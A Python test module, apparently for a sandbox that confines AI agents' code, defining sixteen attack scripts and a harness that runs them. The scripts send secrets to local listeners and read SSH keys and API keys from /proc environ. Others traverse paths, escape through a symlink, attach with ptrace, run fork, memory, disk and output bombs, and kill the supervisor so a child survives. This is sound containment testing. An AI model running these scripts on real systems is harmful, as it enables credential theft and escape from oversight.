"""Attacks on a sandbox, each a small script: what they are, how they are run, and the first sixteen.

Whether one succeeded is judged by its effect outside (what a listener received, a file that is there, a process that
is dead) or by a secret in its output; only where an attack is to make or open a thing, by its own word. Targets belong
to the scene. The bombs are small and end by themselves.

Most attacks share one run (`Battery`), each in a fork of one interpreter. Those that use up a limit, or end the run,
have a run of their own.
"""

from __future__ import annotations

import json
import os
import sys
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass

from agentkd.sandbox.collect import Outcome
from agentkd.sandbox.limits import Limits
from agentkd.sandbox.sandbox import Sandbox
from tests.support.scene import SECRET, Scene

AMPLE = Limits(seconds=60, memory_mb=4096, disk_mb=1024, output_kb=256, processes=1000)
PYTHON = [sys.executable, "-E", "-S"]

# Runs each script of scripts.json in a fork, and prints its name and its output as JSON.
HARNESS = """
import json, os, select, sys, time
import ctypes, errno, fcntl, glob, socket, stat
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
def call(function, *arguments):
    result = function(*arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
bosses = [os.getppid()]  # the supervisor, and the guard above it
try:
    bosses.append(int(open(f"/proc/{bosses[0]}/stat").read().rpartition(")")[2].split()[1]))
except OSError:
    bosses.append(bosses[0] - 1)
for name, script in json.load(open("scripts.json")):
    inner, outer = os.pipe()
    if not os.fork():
        os.dup2(outer, 1); os.dup2(outer, 2); os.close(inner); os.close(outer)
        try:
            exec(compile(script, name, "exec"))
        except BaseException as error:
            print(type(error).__name__, error)
        sys.stdout.flush()
        os._exit(0)
    os.close(outer)
    said, deadline = b"", time.monotonic() + 5
    while select.select([inner], [], [], max(0, deadline - time.monotonic()))[0] and (data := os.read(inner, 65536)):
        said += data
    os.close(inner)
    print(json.dumps([name, said.decode(errors="replace")]), flush=True)
"""


@dataclass(frozen=True)
class Attack:
    """script: with <root>, <pid>, … to be filled in. succeeded: looks at the scene and at what the script has printed.

    limits: below what the attack uses, and `stopped` is the one that stops it. root: without isolation too, it is up
    to root. signals: it is about signals, which Landlock refuses from version 6 on. alone: it needs a run of its own.
    open: Landlock leaves it to the code of a user who is not root."""

    name: str
    script: str
    succeeded: Callable[[Scene, str], bool]
    limits: Limits | None = None
    stopped: str = ""
    root: bool = False
    signals: bool = False
    alone: bool = False
    open: bool = False

    def run(self, sandbox: Sandbox, scene: Scene, limits: Limits | None = None) -> Outcome:
        """Run it by itself."""
        return _run([self], sandbox, scene, limits or self.limits or AMPLE)


class Battery:
    """Attacks that have shared one run in a scene: how it ended, and what each attack has printed."""

    def __init__(self, attacks: Sequence[Attack], sandbox: Sandbox, scene: Scene) -> None:
        self._scene = scene
        self.outcome = _run(attacks, sandbox, scene, AMPLE)
        lines = self.outcome.output.splitlines()
        self.said: dict[str, str] = dict(json.loads(line) for line in lines if line.startswith('["'))

    def succeeded(self, attack: Attack) -> bool:
        return attack.succeeded(self._scene, self.said[attack.name])


def _run(attacks: Sequence[Attack], sandbox: Sandbox, scene: Scene, limits: Limits) -> Outcome:
    (scene.work / "harness.py").write_text(HARNESS)
    scripts = [(attack.name, scene.fill(attack.script)) for attack in attacks]
    (scene.work / "scripts.json").write_text(json.dumps(scripts))
    data = scene.root / "competition/data"
    return sandbox.run([*PYTHON, "harness.py"], work=scene.work, read=[data], limits=limits)


def told(scene: Scene, said: str) -> bool:
    return SECRET in said


def done(scene: Scene, said: str) -> bool:
    return "it is done" in said


def arrived(mark: str) -> Callable[[Scene, str], bool]:
    """The secret and this mark came to a listener."""

    def look(scene: Scene, said: str) -> bool:
        deadline = time.monotonic() + 0.3
        expected = f"{SECRET}{mark}".encode()
        while not (found := any(expected in data for data in scene.received)) and time.monotonic() < deadline:
            time.sleep(0.01)
        return found

    return look


def exists(path: str, patience: float = 0.0) -> Callable[[Scene, str], bool]:
    def look(scene: Scene, said: str) -> bool:
        deadline = time.monotonic() + patience
        while not os.path.lexists(scene.root / path) and time.monotonic() < deadline:
            time.sleep(0.02)
        return os.path.lexists(scene.root / path)

    return look


def dead(name: str) -> Callable[[Scene, str], bool]:
    def look(scene: Scene, said: str) -> bool:
        deadline = time.monotonic() + 0.3
        while scene.sleepers[name].poll() is None and time.monotonic() < deadline:
            time.sleep(0.01)
        return scene.sleepers[name].poll() is not None

    return look


def reads(path: str) -> str:
    return f"print(open('{path}').read())"


FIRST = [
    Attack(
        "tcp",
        "socket.create_connection(('127.0.0.1', <tcp>), 2).sendall(b'<secret>tcp')",
        arrived("tcp"),
    ),
    Attack(
        "udp",
        "socket.socket(type=socket.SOCK_DGRAM).sendto(b'<secret>udp', ('127.0.0.1', <udp>))",
        arrived("udp"),
    ),
    Attack(
        "dns",
        """
asked = b"".join(bytes([len(part)]) + part for part in (b"<secret>dns", b"example", b"com", b""))
asker = socket.socket(type=socket.SOCK_DGRAM)
asker.settimeout(0.7)
asker.sendto(b"\\7\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + asked + b"\\0\\1\\0\\1", ("127.0.0.1", <dns>))
print(socket.inet_ntoa(asker.recv(512)[-4:]))
""",
        arrived("dns"),
    ),
    Attack("home", reads("<root>/home/.ssh/id"), told),
    Attack(
        "keys",
        """
found = dict(os.environ)
for path in ["/proc/<pid>/environ", *glob.glob("/proc/[0-9]*/environ")]:
    try:
        found.update(pair.split("=", 1) for pair in open(path).read().split("\\0") if "=" in pair)
    except OSError:
        pass
print(found.get("OPENAI_API_KEY"), found.get("KAGGLE_KEY"))
""",
        told,
    ),
    Attack("private", reads("<root>/competition/data/../private/labels.csv"), told),
    Attack("other runs", reads("<root>/runs/this/work/../../other/traces.jsonl"), told),
    Attack("writing outside", "open('<root>/outside/planted', 'w').write('x')", exists("outside/planted")),
    Attack(
        "symlink",
        "os.symlink('<root>/outside', 'door'); open('door/through', 'w').write('x')",
        exists("outside/through"),
    ),
    Attack(
        "ptrace",
        """
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
call(libc.ptrace, 16, <pid>, None, None)  # PTRACE_ATTACH
os.waitpid(<pid>, 0)
memory = os.open("/proc/<pid>/mem", os.O_RDONLY)
print(os.pread(memory, 32, <address>).split(b"\\0")[0].decode())
libc.ptrace(17, <pid>, None, None)  # PTRACE_DETACH
""",
        told,
    ),
    Attack("kill", "os.kill(<kill>, 9)", dead("kill"), signals=True),
    Attack(
        "fork bomb",
        "first = os.getpid()\nfor _ in range(7): os.fork()\n"
        "time.sleep(1)\nif os.getpid() == first: print('it is done')",
        done,
        Limits(seconds=30, processes=30),
        "processes",
    ),
    Attack(
        "memory bomb",
        "held = []\nfor _ in range(25): held.append(b'x' * 10_000_000)\ntime.sleep(0.5)\nprint('it is done')",
        done,
        Limits(seconds=30, memory_mb=120),
        "memory",
    ),
    Attack(
        "disk bomb",
        "for i in range(25): open(f'{i}.bin', 'wb').write(b'x' * 2_000_000)\ntime.sleep(0.5)\nprint('it is done')",
        done,
        Limits(seconds=30, disk_mb=20),
        "disk",
    ),
    Attack(
        "output bomb",
        "for _ in range(2000): print('x' * 2000)\nprint('it is done')",
        done,
        Limits(seconds=30, output_kb=16),
        "output",
    ),
    Attack(
        "surviving child",  # it leaves its parent, its session, and kills both who would adopt it
        """
if not os.fork():
    os.setsid()
    if not os.fork():
        os.dup2(os.open("/dev/null", os.O_WRONLY), 1), os.dup2(1, 2)  # nobody waits for the end of its output
        for number in (19, 9):
            for boss in bosses:
                try:
                    os.kill(boss, number)
                except OSError:
                    pass
        time.sleep(0.5)
        open("survived", "w").write("x")
        os._exit(0)
    os._exit(0)
time.sleep(0.2)
""",
        exists("runs/this/work/survived", patience=1.0),
        signals=True,
        alone=True,
    ),
]
